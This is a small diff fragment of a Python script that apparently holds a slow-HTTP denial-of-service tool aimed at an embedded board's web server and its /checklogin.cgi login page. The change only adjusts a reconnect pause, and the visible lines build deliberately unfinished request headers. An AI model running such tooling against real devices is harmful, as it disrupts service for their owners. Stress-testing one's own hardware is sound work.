@@ -18,7 +18,7 @@ import socket
 import time
 
 BOARD = "192.168.0.10"
-REOPEN_PAUSE_S = 0.2
+REOPEN_PAUSE_S = 0.5
 
 HEAD_START = b"GET / HTTP/1.1\r\nHost: " + BOARD.encode() + b"\r\nX-Slow: "
 BODY_HEAD = (b"POST /checklogin.cgi HTTP/1.1\r\nHost: " + BOARD.encode() +
